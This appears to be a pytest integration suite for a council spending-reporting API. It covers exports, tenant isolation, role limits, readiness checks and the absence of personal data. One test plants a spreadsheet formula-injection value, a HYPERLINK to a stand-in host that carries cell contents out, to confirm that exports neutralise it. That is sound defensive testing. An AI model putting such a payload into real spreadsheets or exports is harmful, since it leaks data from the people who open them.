"""The reporting HTTP API against a real reporting database and a real server: figures to the penny in
every format, tenant isolation in both directions, the auditor role reads and cannot write, a cookie
never authorises a write, readiness follows PostgreSQL, and answers carry no personal data."""
from __future__ import annotations

import csv
import io

import aiohttp
import pytest
from openpyxl import load_workbook
from reporting.web.runner import report_specs

from .reporting_web_harness import (BUDGETS, COUNCILS, KEYS, MARKERS, bearer, insert_domain_events, running_server,
                                    seed_reporting_db, web_settings)

SPEND = "/councils/{c}/reports/provider_type_spend?as_of=2026-06-30&params=period%3Dmonth&params=from%3D2026-04-01"
# Columns that would carry a person's identity; people appear only as opaque person_ref values.
PERSONAL = {"name", "full_name", "person_name", "first_name", "last_name", "surname", "address", "postcode",
            "email", "phone", "telephone", "date_of_birth", "dob", "nhs_number", "ni_number", "bank_account",
            "account_number", "sort_code", "iban"}


@pytest.fixture
async def server(fresh_db, tmp_path):
    dsn = await fresh_db("reporting")
    await seed_reporting_db(dsn)
    async with running_server(web_settings(dsn, tmp_path / "packs")) as base:
        # unsafe=True: keep cookies set by an IP-address host (the sign-in cookie from 127.0.0.1).
        async with aiohttp.ClientSession(base, cookie_jar=aiohttp.CookieJar(unsafe=True)) as http:
            yield http, tmp_path / "packs"


async def test_figures_to_the_penny_in_every_format(server):
    http, _ = server
    async with http.get(SPEND.format(c="C001"), headers=bearer("C001", "auditor")) as r:
        assert r.status == 200 and r.content_type == "application/json"
        doc = await r.json()
    totals = {row["period"]: row for row in doc["rows"] if row["provider_type"] == "ALL"}
    assert {p: (t["spend_pence"], t["external_share"]) for p, t in totals.items()} == {
        "2026-04": (100000, 0.6), "2026-05": (100000, 0.9)}
    assert doc["query"] == {"council_id": "C001", "as_of": "2026-06-30", "known_at": None,
                            "params": {"period": "month", "from": "2026-04-01"}}

    async with http.get(SPEND.format(c="C001") + "&format=csv", headers=bearer("C001", "auditor")) as r:
        assert r.status == 200 and r.content_type == "text/csv"
        assert "attachment" in r.headers["Content-Disposition"]
        csv_text = await r.text()
    assert "2026-04,private,external,60000" in csv_text

    async with http.get(SPEND.format(c="C001") + "&format=xlsx", headers=bearer("C001", "auditor")) as r:
        assert r.status == 200
        sheet = load_workbook(io.BytesIO(await r.read())).active
    cells = [tuple(row) for row in sheet.iter_rows(values_only=True)]
    assert ("2026-05", "charity", "external", 10000) in [c[:4] for c in cells]

    async with http.get(SPEND.format(c="C001") + "&format=html", headers=bearer("C001", "auditor")) as r:
        assert r.status == 200 and r.content_type == "text/html"
        page = await r.text()
    assert 'id="chart-external-share"' in page and "Target 80%" in page and "£600.00" in page


async def test_known_at_before_anything_was_recorded_shows_no_spend(server):
    http, _ = server
    url = SPEND.format(c="C001") + "&known_at=2026-04-01T00:00:00%2B00:00"
    async with http.get(url, headers=bearer("C001", "finance")) as r:
        assert r.status == 200
        assert (await r.json())["rows"] == []


@pytest.mark.parametrize("own,other", [("C001", "C002"), ("C002", "C001")])
async def test_no_council_sees_another_councils_data(server, own, other):
    http, _ = server
    for role in ("finance", "auditor"):
        for path in (f"/councils/{other}/reports", SPEND.format(c=other), f"/councils/{other}/dashboard",
                     f"/councils/{other}/audit-packs/anything"):
            async with http.get(path, headers=bearer(own, role)) as r:
                assert r.status == 403, (role, path, r.status)
                text = await r.text()
                assert not [m for m in MARKERS[other] if m in text]
        async with http.post(f"/councils/{other}/audit-packs?as_of=2026-06-30", headers=bearer(own, role)) as r:
            assert r.status == 403
    # ...and everything its own keys can read holds none of the other council's values.
    everything = ""
    for spec in report_specs():
        async with http.get(f"/councils/{own}/reports/{spec.name}?as_of=2026-06-30",
                            headers=bearer(own, "auditor")) as r:
            assert r.status == 200, (spec.name, await r.text())
            body = await r.text()
        assert not [m for m in MARKERS[other] if m in body], spec.name
        everything += body
    assert [m for m in MARKERS[own] if m in everything]  # the check above can fail: own values do show


async def test_the_auditor_reads_but_cannot_write(server):
    http, packs = server
    async with http.post("/councils/C001/audit-packs?as_of=2026-06-30", headers=bearer("C001", "auditor")) as r:
        assert r.status == 403
        assert "auditor" in (await r.json())["detail"]
    assert not packs.exists() or not any(packs.rglob("*.html"))

    async with http.post("/councils/C001/audit-packs?as_of=2026-06-30", headers=bearer("C001", "finance")) as r:
        assert r.status == 201
        pack = await r.json()
    assert pack["council_id"] == "C001" and "provider_type_spend" in pack["reports"]
    async with http.get(pack["href"], headers=bearer("C001", "auditor")) as r:  # reading it is fine
        assert r.status == 200
        assert "Audit pack" in await r.text()
    async with http.get(pack["zip_href"], headers=bearer("C001", "auditor")) as r:
        assert r.status == 200 and (await r.read())[:2] == b"PK"
    async with http.get(pack["href"], headers=bearer("C002", "finance")) as r:
        assert r.status == 403


async def test_a_cookie_reads_but_never_writes(server):
    http, _ = server
    async with http.post("/sign-in", data={"key": KEYS[("C001", "finance")]}, allow_redirects=False) as r:
        assert r.status == 303 and r.headers["Location"] == "/councils/C001/dashboard"
    async with http.get("/councils/C001/dashboard") as r:
        assert r.status == 200
    async with http.post("/councils/C001/audit-packs?as_of=2026-06-30") as r:
        assert r.status == 401
    async with http.post("/sign-in", data={"key": "not-a-key"}) as r:
        assert r.status == 401 and "Enter a valid access key" in await r.text()


async def test_requests_without_a_valid_key_are_refused(server):
    http, _ = server
    for headers in ({}, {"Authorization": "Bearer wrong"}, {"Authorization": f"Basic {KEYS[('C001', 'finance')]}"}):
        async with http.get("/councils/C001/reports", headers=headers) as r:
            assert r.status == 401 and r.headers["WWW-Authenticate"] == "Bearer"


async def test_answers_hold_no_personal_data_beyond_opaque_refs(server):
    http, _ = server
    for council in COUNCILS:
        for spec in report_specs():
            async with http.get(f"/councils/{council}/reports/{spec.name}?as_of=2026-06-30",
                                headers=bearer(council, "auditor")) as r:
                doc = await r.json()
            names = [c["name"] for c in doc["columns"]]
            assert not PERSONAL & set(names), (spec.name, names)
            if "person_ref" in names:
                assert {row["person_ref"] for row in doc["rows"]} <= {BUDGETS[council][1], ""}


async def test_operations_endpoints(server, tmp_path):
    http, _ = server
    async with http.get("/readyz") as r:
        assert r.status == 200
    async with http.get("/metrics") as r:
        assert 'reporting_http_requests_total{route="/readyz",status="200"}' in await r.text()
    async with http.get("/openapi.json") as r:
        doc = await r.json()
    assert "/councils/{council}/reports/{name}" in doc["paths"]
    assert set(doc["components"]["securitySchemes"]) == {"accessKey", "signInCookie"}


async def test_not_ready_while_postgres_is_unreachable(stack, tmp_path):
    unreachable = stack.dsn("reporting").replace(f":{stack.pg_port}/", ":1/")
    async with running_server(web_settings(unreachable, tmp_path)) as base:
        async with aiohttp.ClientSession(base) as http:
            async with http.get("/healthz") as r:
                assert r.status == 200
            async with http.get("/readyz") as r:
                assert r.status == 503 and (await r.json())["failing"] == ["postgres"]
            async with http.get(SPEND.format(c="C001"), headers=bearer("C001", "finance")) as r:
                assert r.status == 503 and r.headers["Retry-After"] == "5"


async def test_dashboard_as_known_at_a_moment_shows_only_what_was_recorded_by_then(server):
    http, _ = server
    url = "/councils/C001/dashboard?as_of=2026-06-30&known_at=2026-04-30T23:59"
    async with http.get(url, headers=bearer("C001", "auditor")) as r:
        assert r.status == 200
        page = await r.text()
    assert "2026-04: 60.0%" in page and "2026-05: 90.0%" not in page
    assert "known_at=2026-04-30T23%3A59%3A00%2B00%3A00" in page  # the report links keep the moment
    async with http.get("/councils/C001/dashboard?known_at=yesterday", headers=bearer("C001", "auditor")) as r:
        assert r.status == 400 and 'href="#known_at"' in await r.text()


async def test_a_parameter_given_twice_is_refused_not_silently_overridden(server):
    http, _ = server
    url = "/councils/C001/reports/provider_type_spend?as_of=2026-04-30&as_of=2026-06-30"
    async with http.get(url, headers=bearer("C001", "auditor")) as r:
        assert r.status == 422
        assert (await r.json())["detail"][0]["loc"] == ["query", "as_of"]


EDGE_DATES = ("0001-01-01", "0001-03-31", "0001-04-01", "9999-12-31")


@pytest.mark.parametrize("as_of", EDGE_DATES)
async def test_every_report_the_dashboard_and_the_audit_pack_answer_at_the_calendars_edges(server, as_of):
    """January to March of year 1 fall in a financial year that began before the calendar does: the spend
    reports (whose `from` defaults to the year's start), the dashboard and the audit pack answered 500."""
    http, _ = server
    for spec in report_specs():
        for fmt in ("json", "csv", "xlsx", "html"):
            url = f"/councils/C001/reports/{spec.name}?as_of={as_of}&format={fmt}"
            async with http.get(url, headers=bearer("C001", "auditor")) as r:
                assert r.status == 200, (url, r.status, await r.text())
    async with http.get(f"/councils/C001/dashboard?as_of={as_of}", headers=bearer("C001", "auditor")) as r:
        assert r.status == 200, await r.text()
    async with http.post(f"/councils/C001/audit-packs?as_of={as_of}", headers=bearer("C001", "finance")) as r:
        assert r.status == 201, await r.text()


async def test_free_text_reaching_a_report_is_never_a_formula_nor_a_server_error(fresh_db, tmp_path):
    """A run's created_by/approved_by are Actors: any text but NUL by the wire contract. One starting with =
    was written into the XLSX as a formula (and as a bare CSV cell an auditor's spreadsheet would run); a
    control character in it made the XLSX (and every audit pack) a 500 (openpyxl's IllegalCharacterError)."""
    dsn = await fresh_db("reporting")
    creator, approver = '=HYPERLINK("http://x.example/?"&A1,"Open")', "approver\x07\x1b"
    await insert_domain_events(dsn, "C001", [
        ("payments.PaymentRunCreated.v1", "RUN-1", {"run_id": "RUN-1", "created_by": creator, "payment_count": 0,
                                                    "total_pence": 0, "effective_date": "2026-04-01"}),
        ("payments.PaymentRunApproved.v1", "RUN-1", {"run_id": "RUN-1", "approved_by": approver,
                                                     "effective_date": "2026-04-01"})])
    async with running_server(web_settings(dsn, tmp_path / "packs")) as base, aiohttp.ClientSession(base) as http:
        url = "/councils/C001/reports/payment_run_reconciliation?as_of=2026-06-30&format="
        async with http.get(url + "xlsx", headers=bearer("C001", "auditor")) as r:
            assert r.status == 200, await r.text()
            sheet = load_workbook(io.BytesIO(await r.read())).active
        async with http.get(url + "csv", headers=bearer("C001", "auditor")) as r:
            rows = list(csv.reader(io.StringIO(await r.text(), newline="")))
        async with http.post("/councils/C001/audit-packs?as_of=2026-06-30", headers=bearer("C001", "finance")) as r:
            assert r.status == 201, await r.text()
    run = next(row for row in sheet.iter_rows(min_row=2) if row[0].value == "RUN-1")
    assert (run[1].value, run[1].data_type) == (creator, "s")
    assert run[2].value == "approver\\x07\\x1b"
    assert rows[1][:3] == ["RUN-1", "'" + creator, approver]


async def test_a_query_parameter_the_route_does_not_take_is_refused_not_ignored(server):
    """`asof` for `as_of` was ignored: the answer was today's figures, as if the date had been read."""
    http, _ = server
    for url in ("/councils/C001/reports/trial_balance?asof=2026-03-31", "/councils/C001/reports?format=csv",
                "/councils/C001/dashboard?as_at=2026-03-31"):
        async with http.get(url, headers=bearer("C001", "auditor")) as r:
            assert r.status == 422, url
            assert (await r.json())["detail"][0]["loc"][0] == "query"
